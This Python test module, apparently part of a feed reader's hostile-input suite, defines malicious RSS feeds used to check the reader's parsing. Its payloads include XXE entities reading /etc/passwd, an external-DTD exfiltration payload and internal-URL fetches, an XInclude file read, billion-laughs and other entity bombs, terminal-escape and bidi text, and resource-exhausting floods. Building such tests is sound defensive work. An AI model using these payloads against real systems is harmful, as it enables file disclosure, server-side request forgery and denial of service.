"""Table C, feed documents: entities, character sets, broken text, and what is costly to read."""

from tests.hostile.endpoint import ANY_FEED, COSTLY, ENTRIES, LISTS, Endpoint, ok
from tests.hostile.payloads import GOOD, MIB, feed_flood, flood, item, made, rss, some

NOT_A_FEED = frozenset({"not_a_feed"})
ANY = ANY_FEED | COSTLY
_LINK = "https://kolibri.example/"


def _laughs(levels: int = 9) -> str:
    entities = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, levels + 1))
    return f"<!DOCTYPE rss [<!ENTITY l0 'ha'>{entities}]>"


_QUADRATIC = f"<!DOCTYPE rss [<!ENTITY a '{'a' * 50_000}'>]>"
_PARAMETERS = "<!DOCTYPE rss [<!ENTITY % a '<!ENTITY b \"%c;\">'><!ENTITY % c '%a;%a;'>%a;%c;]>"
_RECURSIVE = "<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>"
_XXE = "<!DOCTYPE rss [<!ENTITY x SYSTEM '{}'>]>"
_FILE = "file:///etc/passwd"
_INSIDE = "http://127.0.0.2/secret"
_OUTER = "<!DOCTYPE rss SYSTEM 'http://127.0.0.2/rss.dtd'>"
_EXFILTRATION = "<!DOCTYPE rss [<!ENTITY % d SYSTEM 'http://127.0.0.2/e.dtd'>%d;%e;]>"


def _said(
    name: str, *items: str, before: str = "", ends: frozenset[str] = ENTRIES, declared: str = "utf-8"
) -> Endpoint:
    return Endpoint(f"c-{name}", "C", ok(rss(*items, before=before, declared=declared)), ends)


def no_file_was_read(rows: list[dict[str, object]]) -> bool:
    """Of /etc/passwd nothing is in any text."""
    return not any("root:" in str(value) for row in rows for value in row.values())


_ENTITIES = (
    _said("billion-laughs", item("&l9;", _LINK), before=_laughs(), ends=ANY),
    _said("quadratic-entity", item("Car", _LINK, description="&a;" * 20_000), before=_QUADRATIC, ends=ANY),
    _said("parameter-entities", item("&b;", _LINK), before=_PARAMETERS, ends=ANY),
    _said("recursive-entity", item("&a;", _LINK), before=_RECURSIVE, ends=ANY),
    Endpoint(
        "c-xxe-file", "C", ok(rss(item("Car &x;", _LINK), before=_XXE.format(_FILE))), ANY, stored=no_file_was_read
    ),
    _said("xxe-http", item("Car &x;", _LINK), before=_XXE.format(_INSIDE), ends=ANY),
    _said("xxe-php", item("Car &x;", _LINK), before=_XXE.format("php://filter/read=x/resource=/etc/passwd"), ends=ANY),
    _said("dtd-outside", item("Car", _LINK), before=_OUTER),
    _said("dtd-exfiltration", item("Car", _LINK), before=_EXFILTRATION),
    _said("stylesheet", item("Car", _LINK), before="<?xml-stylesheet type='text/xsl' href='http://127.0.0.2/x.xsl'?>"),
    Endpoint(
        "c-xinclude",
        "C",
        ok(
            rss(
                item(
                    "Car <xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' "
                    "parse='text'/>"
                )
            )
        ),
        ENTRIES,
        stored=no_file_was_read,
    ),
    Endpoint("c-doctype-open", "C", ok(b"<!DOCTYPE rss [" + b"<!ENTITY a 'b'>" * 10_000 + GOOD), ANY),
)

_CHARSETS = {
    "undefined": b"undefined",
    "idna": b"idna",
    "unicode-escape": b"unicode_escape",
    "rot13": b"rot13",
    "zlib": b"zlib",
    "hex": b"hex",
    "base64": b"base64",
    "punycode": b"punycode",
    "utf-7": b"utf-7",
    "utf-16": b"utf-16",
    "utf-32": b"utf-32",
    "ebcdic": b"cp037",
    "path": b"../../etc/passwd",
    "long": b"x" * 30_000,
}
_CODED = tuple(
    Endpoint(
        f"c-charset-{name}",
        "C",
        ok(GOOD.replace(b"utf-8", codec)),
        NOT_A_FEED if name == "long" else LISTS,  # a declaration of 30 kB is none: no reader of XML takes it
    )
    for name, codec in _CHARSETS.items()
)
_HEADED = tuple(
    Endpoint(f"c-charset-header-{name}", "C", ok(some(), f"text/xml; charset={name.replace('-e', '_e')}"), LISTS)
    for name in ("undefined", "unicode-escape", "utf-7", "rot13")
)
_BROKEN_TEXT = (
    _said("surrogates", item("Car &#xD800; &#xDFFF;", _LINK), item("Car &#x110000;", _LINK + "1"), "<b>", ends=LISTS),
    _said("reference-huge", item("Car &#99999999999; &#x99999999999;", _LINK), "<b>", ends=LISTS),
    _said("reference-digits", item("Car &#" + "9" * 100_000 + ";", _LINK), ends=LISTS),
    _said("surrogates-raw", item("Car \ud800 \udfff", _LINK), ends=LISTS),
    _said("nul-bytes", item("Ca\0r \0", _LINK, description="a\0b"), ends=LISTS),
    _said("terminal-escape", item("Car \x1b[2J\x1b]0;owned\x07 \x9b31m \u202eevil", _LINK), ends=LISTS),
    _said(
        "terminal-escape-channel", item("Car", _LINK, "<author>\x1b[31mred\r\n</author><category>\x08\x08</category>")
    ),
    _said("noncharacters", item("Car \ufffe \uffff \U0010ffff &#xfffe;", _LINK), ends=LISTS),
    _said("marks", item("Car" + "\u0301" * 60_000, _LINK), ends=LISTS),
    _said("bidi", item("Car \u202e\u2066\u2069" * 1000, _LINK), ends=LISTS),
    Endpoint("c-utf-8-overlong", "C", ok(GOOD.replace(b"Car 1", b"Car \xc0\xaf\xe0\x80\xaf\xf5\xff")), LISTS),
    Endpoint("c-utf-16", "C", ok(GOOD.decode().replace("utf-8", "utf-16").encode("utf-16")), LISTS),
    Endpoint("c-utf-16-odd", "C", ok(GOOD.decode().encode("utf-16")[:-1]), ENTRIES),
    Endpoint("c-bom-only", "C", ok(b"\xef\xbb\xbf"), NOT_A_FEED),
)


def _attributes(count: int) -> list[str]:
    return [
        "<rss version='2.0'><channel><item ",
        *(f"a{n}='' " for n in range(count)),
        "><title>Car</title></item></channel></rss>",
    ]


def _deep(tag: str, depth: int) -> list[str]:
    start, end = rss(item("Car", _LINK, "@")).decode().split("@")
    return [start, f"<{tag}>" * depth, f"</{tag}>" * depth, end]


def _namespaces(count: int) -> list[str]:
    declared = " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(count))
    return [f"<rss version='2.0' {declared}>", GOOD.decode().partition("'2.0'>")[2]]


_COSTLY = (
    Endpoint(
        "c-author-40-kb",
        "C",
        made(lambda: [rss(item("Car", _LINK, f"<author>{'a' * 40_000}</author>")).decode()]),
        LISTS,
    ),
    Endpoint(
        "c-author-1-mib", "C", made(lambda: [rss(item("Car", _LINK, f"<author>{'a' * MIB}</author>")).decode()]), LISTS
    ),
    Endpoint(
        "c-long-fields",
        "C",
        made(
            lambda: [
                rss(
                    item(
                        "C" * MIB,
                        _LINK + "a" * MIB,
                        f"<guid>{'g' * MIB}</guid><category>{'k' * MIB}</category>",
                        "d" * MIB,
                    )
                ).decode()
            ]
        ),
        LISTS,
    ),
    Endpoint("c-attributes-10k", "C", made(lambda: _attributes(10_000)), ANY),
    Endpoint("c-attributes-200k", "C", made(lambda: _attributes(200_000)), ANY),
    Endpoint("c-attributes-valueless", "C", feed_flood(" a", MIB, "<![CDATA[<p", ">]]>"), ANY),
    Endpoint("c-comments-32k", "C", feed_flood("&lt;!--", 32_000 * 7), ANY),
    Endpoint("c-comments-262k", "C", feed_flood("&lt;!--", 262_000 * 7), ANY),
    Endpoint("c-comments-in-cdata", "C", feed_flood("<!--", MIB, "<![CDATA[", "]]>"), ANY),
    Endpoint(
        "c-comments-open",
        "C",
        flood("<rss version='2.0'><channel><title>K</title>", "<!-- ", 2 * MIB, "</channel></rss>"),
        ANY,
    ),
    Endpoint("c-deep-200k", "C", made(lambda: _deep("b", 200_000)), ANY),
    Endpoint("c-deep-items", "C", made(lambda: _deep("item", 20_000)), ANY),
    Endpoint("c-deep-html", "C", feed_flood("<div>", MIB, "<![CDATA[", "]]>"), ANY),
    Endpoint("c-deep-open", "C", flood("<rss version='2.0'><channel>", "<a>", MIB, ""), ANY),
    Endpoint("c-namespaces", "C", made(lambda: _namespaces(20_000)), ANY),
    Endpoint("c-description-7-mib", "C", feed_flood("word ", 7 * MIB), ANY),
    Endpoint("c-description-html-7-mib", "C", feed_flood("<p>A word of it.</p>", 7 * MIB, "<![CDATA[", "]]>"), ANY),
    Endpoint("c-description-40-mib", "C", feed_flood("word ", 40 * MIB), frozenset({"too_large"})),
    Endpoint("c-tables-in-cdata", "C", feed_flood("<table><tr><td>", MIB, "<![CDATA[", "]]>"), ANY),
    Endpoint("c-cdata-many", "C", feed_flood("<![CDATA[a]]>", 2 * MIB), ANY),
    Endpoint("c-cdata-open", "C", feed_flood("<![CDATA[", 2 * MIB), ANY),
    Endpoint("c-less-than-flood", "C", feed_flood("<", MIB), ANY),
    Endpoint("c-ampersand-flood", "C", feed_flood("&", MIB), ANY),
    Endpoint("c-entity-flood", "C", feed_flood("&amp;", 5 * MIB), ANY),
    Endpoint("c-references-open", "C", feed_flood("&#1", MIB), ANY),
    Endpoint("c-quotes", "C", feed_flood("<a b='", MIB), ANY),
    Endpoint("c-unclosed-30k", "C", feed_flood("<b><i><p>", 270_000), ANY),
    Endpoint("c-instructions", "C", flood("<?xml version='1.0'?>", "<?a b?>", 2 * MIB, GOOD.decode()), ANY),
    Endpoint("c-blanks-before", "C", flood("", " ", 4 * MIB, GOOD.decode()), ANY),
    Endpoint(
        "c-items-30k",
        "C",
        flood(rss().decode()[:-16], item("Car", _LINK), 30_000 * len(item("Car", _LINK)), "</channel></rss>"),
        LISTS,
    ),
    Endpoint(
        "c-items-100k",
        "C",
        made(lambda: [rss(*(f"<item><guid>{n}</guid><title>Car {n}</title></item>" for n in range(100_000))).decode()]),
        LISTS,
    ),
    Endpoint(
        "c-categories-100k",
        "C",
        made(lambda: [rss(item("Car", _LINK, "".join(f"<category>{n}</category>" for n in range(100_000)))).decode()]),
        LISTS | COSTLY,
    ),
    Endpoint(
        "c-enclosures-50k",
        "C",
        made(
            lambda: [
                rss(item("Car", _LINK, "<enclosure url='http://a.example/a.jpg' type='image/jpeg'/>" * 50_000)).decode()
            ]
        ),
        LISTS | COSTLY,
    ),
    Endpoint(
        "c-links-50k",
        "C",
        made(lambda: [rss(item("Car", more=f"<link>{_LINK}</link>" * 50_000)).decode()]),
        LISTS | COSTLY,
    ),
    Endpoint(
        "c-authors-50k",
        "C",
        made(lambda: [rss(item("Car", _LINK, "<author>a@b.example (A)</author>" * 50_000)).decode()]),
        LISTS | COSTLY,
    ),
)


ENDPOINTS = (*_ENTITIES, *_CODED, *_HEADED, *_BROKEN_TEXT, *_COSTLY)
